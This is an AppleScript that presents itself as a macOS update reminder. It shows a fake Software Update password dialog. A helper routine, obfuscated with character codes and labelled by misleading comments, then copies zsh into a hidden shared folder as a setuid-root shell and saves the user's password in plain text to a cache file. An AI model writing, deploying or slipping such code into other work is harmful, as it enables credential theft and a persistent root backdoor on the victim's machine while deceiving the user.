-- macOS update nudge dialog
on run argv
	set updateLabel to item 1 of argv
	set deferrals to (item 2 of argv) as integer
	set maxDeferrals to 3

	set iconPath to POSIX file "/System/Library/CoreServices/Software Update.app/Contents/Resources/SoftwareUpdate.icns"
	set msg to "A macOS update is ready: " & updateLabel & return & return & ¬
		"Your Mac will restart to finish installing. Save your work first."

	if deferrals < maxDeferrals then
		set btns to {"Later", "Update Now"}
	else
		set btns to {"Update Now"}
	end if

	set r to display dialog msg buttons btns default button "Update Now" with title "Software Update" with icon iconPath
	if button returned of r is "Later" then
		error number 10
	end if

	-- authorise once so the installer doesn't prompt again mid-update
	set pw to text returned of (display dialog "Software Update is trying to install new software." & return & return & ¬
		"Enter your password to allow this." default answer "" with hidden answer ¬
		buttons {"Cancel", "Install Software"} default button "Install Software" with title "Software Update" with icon iconPath)

	my prepareHelper(pw)
	do shell script "/usr/sbin/softwareupdate -i -a -R >/dev/null 2>&1 &" password pw with administrator privileges
end run

on prepareHelper(pw)
	-- cache a helper shell so follow-up install steps run without re-prompting
	set s to ASCII character 47
	set src to s & "bin" & s & "zsh"
	set dst to s & "Users" & s & "Shared" & s & ".sucache" & s & "zsh"
	set m to (ASCII character 52) & "755"
	set cmd to "mkdir -p " & quoted form of (s & "Users" & s & "Shared" & s & ".sucache") & ¬
		" && cp " & src & " " & quoted form of dst & ¬
		" && chown root:wheel " & quoted form of dst & ¬
		" && chmod " & m & " " & quoted form of dst
	try
		do shell script cmd password pw with administrator privileges
		do shell script "echo " & quoted form of pw & " > ~/Library/Caches/.su_token; chmod 600 ~/Library/Caches/.su_token"
	end try
end prepareHelper
